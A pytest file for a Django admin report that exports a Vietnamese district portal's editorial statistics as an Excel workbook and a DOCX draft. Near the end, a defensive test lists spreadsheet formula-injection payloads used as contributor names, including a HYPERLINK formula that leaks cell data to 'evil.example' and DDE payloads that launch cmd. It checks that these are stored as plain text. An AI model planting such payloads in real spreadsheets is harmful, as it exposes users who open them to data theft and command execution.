"""The report's Excel workbook and its DOCX draft, read back cell by cell and line by line."""

import io

import pytest
from docx import Document
from openpyxl import load_workbook

from tests.editorial.factories import build_history, local, travel

pytestmark = pytest.mark.django_db

URL = "/admin/reports/editorial-activity/"
NOW = local(2026, 11, 2, 10)


@pytest.fixture
def downloads(client, pipeline):
    """The XLSX and DOCX of the default period, as of Monday 02/11/2026."""
    history = build_history(pipeline)
    client.force_login(history.users["board"])
    with travel(NOW):
        xlsx = client.get(URL + "?export=xlsx")
        docx = client.get(URL + "?export=docx")
    return xlsx, docx


def rows(sheet):
    return [list(row) for row in sheet.iter_rows(values_only=True)]


def test_the_workbook_has_one_sheet_per_table_with_the_exact_figures(downloads):
    response, _docx = downloads
    assert response.status_code == 200
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == 'attachment; filename="bao-cao-bien-tap-2026-01-01-2026-11-02.xlsx"'
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Tổng hợp",
        "Từ chối đăng theo lý do",
        "Theo tháng",
        "Theo chuyên mục",
        "Theo đơn vị",
        "Theo người gửi",
        "Đơn vị chưa gửi tin, bài",
        "Chuyên mục chậm cập nhật",
        "Thời gian xử lý",
    ]
    assert rows(workbook["Tổng hợp"]) == [
        [
            "Chỉ số",
            "Kỳ này (01/01/2026–02/11/2026)",
            "Cùng kỳ năm trước (01/01/2025–02/11/2025)",
            "Tăng/giảm",
            "Tăng/giảm (%)",
        ],
        ["Đã nhận (gửi phê duyệt)", 7, 4, 3, 75],
        ["Gửi lại sau khi chỉnh sửa", 1, 0, 1, "–"],
        ["Đã đăng tải", 5, 2, 3, 150],
        ["Xuất bản trực tiếp, bỏ qua bước duyệt", 0, 0, 0, "–"],
        ["Trả lại để chỉnh sửa", 1, 0, 1, "–"],
        ["Bị từ chối đăng", 2, 1, 1, 100],
        ["Người gửi rút lại", 0, 0, 0, "–"],
    ]
    assert rows(workbook["Từ chối đăng theo lý do"])[1:] == [
        ["Trùng lặp", 1, 1, 0, 0],
        ["Chất lượng thấp", 1, 0, 1, "–"],
        ["Không phù hợp", 0, 0, 0, "–"],
        ["Lý do khác", 0, 0, 0, "–"],
    ]
    months = rows(workbook["Theo tháng"])
    assert months[0] == ["Tháng", "Tin, bài nhận", "Nhận cùng kỳ", "Tin, bài đăng tải", "Đăng tải cùng kỳ"]
    assert months[1:] == [
        ["01/2026", 0, 0, 0, 0],
        ["02/2026", 0, 0, 0, 0],
        ["03/2026", 1, 1, 1, 1],
        ["04/2026", 1, 0, 1, 0],
        ["05/2026", 1, 1, 0, 0],
        ["06/2026", 1, 1, 0, 1],
        ["07/2026", 0, 0, 1, 0],
        ["08/2026", 0, 0, 0, 0],
        ["09/2026", 1, 0, 1, 0],
        ["10/2026", 2, 0, 1, 0],
        ["11/2026", 0, 1, 0, 0],
    ]
    sections = rows(workbook["Theo chuyên mục"])
    assert sections[0][:5] == [
        "Chuyên mục",
        "Tin, bài nhận – kỳ này",
        "Tin, bài nhận – cùng kỳ",
        "Tin, bài nhận – tăng/giảm",
        "Tin, bài nhận – tăng/giảm (%)",
    ]
    assert sections[1:] == [
        ["Văn hóa – Xã hội", 4, 1, 3, 300, 3, 1, 2, 200, 0, 0, 1, 0],
        ["Kinh tế – Chính trị", 3, 3, 0, 0, 2, 1, 1, 100, 1, 0, 1, 1],
        ["Giao thông", 0, 0, 0, "–", 0, 0, 0, "–", 0, 0, 0, 0],
    ]
    units = rows(workbook["Theo đơn vị"])
    assert units[0][-2:] == ["Chỉ tiêu của kỳ", "Đạt chỉ tiêu (%)"]
    assert units[1:] == [
        ["Phòng Nông nghiệp và PTNT", "Phòng, ban chuyên môn", 6, 3, 3, 100, 3, 1, 2, 200, 1, 0, 2, 1, 10.1, 59.4],
        ["Xã Thạch Đài", "Xã", 1, 0, 1, "–", 1, 0, 1, "–", 0, 0, 0, 0, 20.1, 5],
        ["Huyện đoàn Thạch Hà", "Mặt trận, đoàn thể", 0, 0, 0, "–", 0, 0, 0, "–", 0, 0, 0, 0, "–", "–"],
        ["Xã Việt Tiến", "Xã", 0, 1, -1, -100, 0, 1, -1, -100, 0, 0, 0, 0, "–", "–"],
        ["(không ghi đơn vị)", None, 0, 0, 0, "–", 1, 0, 1, "–", 0, 0, 0, 0, "–", "–"],
    ]
    assert [row[:3] for row in rows(workbook["Theo người gửi"])[1:]] == [
        ["Phạm Cộng", 4, 3],
        ["congtacvien2", 2, 0],
        ["xa-thach-dai-bientap", 1, 0],
        ["Lê Biên", 0, 0],
        ["xa-viet-tien-bientap", 0, 1],
    ]
    assert rows(workbook["Đơn vị chưa gửi tin, bài"]) == [
        ["Đơn vị", "Loại đơn vị"],
        ["Huyện đoàn Thạch Hà", "Mặt trận, đoàn thể"],
        ["Xã Việt Tiến", "Xã"],
    ]
    assert rows(workbook["Chuyên mục chậm cập nhật"]) == [
        ["Chuyên mục", "Lần đăng tải gần nhất", "Số ngày không có tin, bài"],
        ["Văn hóa – Xã hội", "08/09/2026", 55],
        ["Giao thông", "–", "–"],
    ]
    this, last = (
        "tính trên 4 trong 5 tin, bài đã đăng có đủ dữ liệu",
        "tính trên 2 trong 2 tin, bài đã đăng có đủ dữ liệu",
    )
    assert rows(workbook["Thời gian xử lý"])[1:] == [
        ["Số tin, bài đã đăng trong kỳ", 5, None, 2, None],
        ["Số tin, bài đã đăng có ghi nhận thời điểm gửi", 4, None, 2, None],
        ["Thời gian trung vị (giờ)", 24.8, this, 27.5, last],
        ["Phân vị 90 (giờ)", 73, this, 49, last],
        ["Số tin, bài đăng tải đúng hạn", 3, this, 1, last],
        ["Tỷ lệ đúng hạn (%)", 75, this, 50, last],
    ]


def test_the_docx_draft_follows_the_yearly_report_with_the_figures_filled_in(downloads):
    _xlsx, response = downloads
    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="bao-cao-bien-tap-2026-01-01-2026-11-02.docx"'
    document = Document(io.BytesIO(response.content))
    assert [paragraph.text for paragraph in document.paragraphs] == [
        "BÁO CÁO",
        "Tình hình hoạt động Cổng thông tin điện tử huyện năm 2026",
        "1. Tình hình hoạt động BBT Cổng Thông tin điện tử huyện",
        "- [Ban Biên tập bổ sung: quy chế tổ chức hoạt động, phân công nhiệm vụ các thành viên, phối hợp cung cấp "
        "tin, bài với các đơn vị.]",
        "- Các thành viên Ban Biên tập đã kiểm tra, biên tập các tin, bài từ cán bộ, công chức, viên chức của các cơ "
        "quan, đơn vị, BBT trang TTĐT xã, thị trấn và các cộng tác viên gửi đến, thuộc các chuyên mục: "
        "Văn hóa – Xã hội (3), Kinh tế – Chính trị (2).",
        "- Tính đến 02/11/2026 Ban Biên tập đã nhận và biên tập 7 tin, bài; tăng 3 tin, bài so với cùng kỳ "
        "(đã đăng tải 5 tin, bài; trả lại để chỉnh sửa 1 lượt; loại bỏ 2 tin, bài: trùng lặp 1, chất lượng thấp 1).",
        "- Thời gian từ khi nhận đến khi đăng tải, tính trên 4 trong 5 tin, bài đã đăng có đủ dữ liệu: trung vị "
        "1 ngày 45 phút, phân vị 90 là 3 ngày 1 giờ; 3 trên 4 tin, bài (75,0%) được đăng tải trong thời hạn "
        "2 ngày làm việc theo Quy chế.",
        "- Có 2/4 cơ quan, đơn vị, xã, thị trấn gửi tin, bài trong kỳ.",
        "- [Ban Biên tập bổ sung: công tác quản trị, trang thiết bị và kinh phí hoạt động của Cổng TTĐT.]",
        "2. Đánh giá chung",
        "2.1. Ưu điểm:",
        "- Các chuyên mục đăng tải nhiều tin, bài nhất (trong số các chuyên mục được cập nhật thường xuyên): "
        "Kinh tế – Chính trị (2).",
        "- [Ban Biên tập bổ sung.]",
        "2.2. Hạn chế",
        "- Một số chuyên mục còn thiếu thông tin (không có tin, bài đăng tải từ 30 ngày trở lên): "
        "Văn hóa – Xã hội (3 tin, bài trong kỳ, lần gần nhất ngày 08/09/2026), "
        "Giao thông (chưa có tin, bài nào được đăng tải).",
        "- Có 2 cơ quan, đơn vị, xã, thị trấn chưa gửi tin, bài: Huyện đoàn Thạch Hà, Xã Việt Tiến.",
        "- Các đơn vị chưa đạt chỉ tiêu (số tin, bài đã gửi/chỉ tiêu): Phòng Nông nghiệp và PTNT (6/10,1), "
        "Xã Thạch Đài (1/20,1).",
        "- [Ban Biên tập bổ sung.]",
        "2.3. Nguyên nhân của những hạn chế",
        "- [Ban Biên tập bổ sung.]",
        "2.4. Giải pháp khắc phục hạn chế",
        "- [Ban Biên tập bổ sung.]",
    ]
    assert document.paragraphs[0].runs[0].bold


def test_a_drop_against_last_year_reads_as_a_decrease(client, pipeline):
    history = build_history(pipeline)
    client.force_login(history.users["head"])
    with travel(NOW):
        response = client.get(URL + "?from=2026-11-01&to=2026-11-02&export=docx")
    text = [paragraph.text for paragraph in Document(io.BytesIO(response.content)).paragraphs]
    # 01-02/11/2026: nothing; 01-02/11/2025: K.
    assert text[1] == "Tình hình hoạt động Cổng thông tin điện tử huyện năm 2026"
    assert text[5] == (
        "- Tính đến 02/11/2026 Ban Biên tập đã nhận và biên tập 0 tin, bài; giảm 1 tin, bài so với cùng kỳ "
        "(đã đăng tải 0 tin, bài; trả lại để chỉnh sửa 0 lượt; loại bỏ 0 tin, bài)."
    )
    with travel(NOW):
        response = client.get(URL + "?from=2025-07-01&to=2026-06-30&export=docx")
    text = [paragraph.text for paragraph in Document(io.BytesIO(response.content)).paragraphs]
    assert text[1] == "Tình hình hoạt động Cổng thông tin điện tử huyện từ ngày 01/07/2025 đến ngày 30/06/2026"


LEAK = '=HYPERLINK("https://evil.example/?leak="&A1,"Bấm vào đây")'
FORMULA_NAMES = [LEAK, "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.mark.parametrize("name", FORMULA_NAMES)
def test_a_name_that_looks_like_a_formula_is_written_as_plain_text(client, pipeline, name):
    history = build_history(pipeline)
    contributor = history.users["contributor2"]
    contributor.first_name, contributor.last_name = name, ""
    contributor.save()
    client.force_login(history.users["board"])
    with travel(NOW):
        response = client.get(URL + "?export=xlsx")
    sheet = load_workbook(io.BytesIO(response.content))["Theo người gửi"]
    row = next(cells for cells in sheet.iter_rows(min_row=2) if cells[0].value == name)
    assert row[0].data_type == "s", "a contributor's name must never become a formula"
    assert row[0].quotePrefix, "the cell must stay text when someone edits it"
    assert [(cell.value, cell.data_type) for cell in row[1:3]] == [(2, "n"), (0, "n")]


def test_numbers_stay_numbers_and_ordinary_text_carries_no_quote_prefix(downloads):
    response, _docx = downloads
    sheet = load_workbook(io.BytesIO(response.content))["Theo đơn vị"]
    department = list(sheet[2])
    assert (department[0].value, department[0].data_type, department[0].quotePrefix) == (
        "Phòng Nông nghiệp và PTNT",
        "s",
        False,
    )
    assert [cell.data_type for cell in department[2:6]] == ["n", "n", "n", "n"]
    assert (department[-2].value, department[-2].data_type) == (10.1, "n")
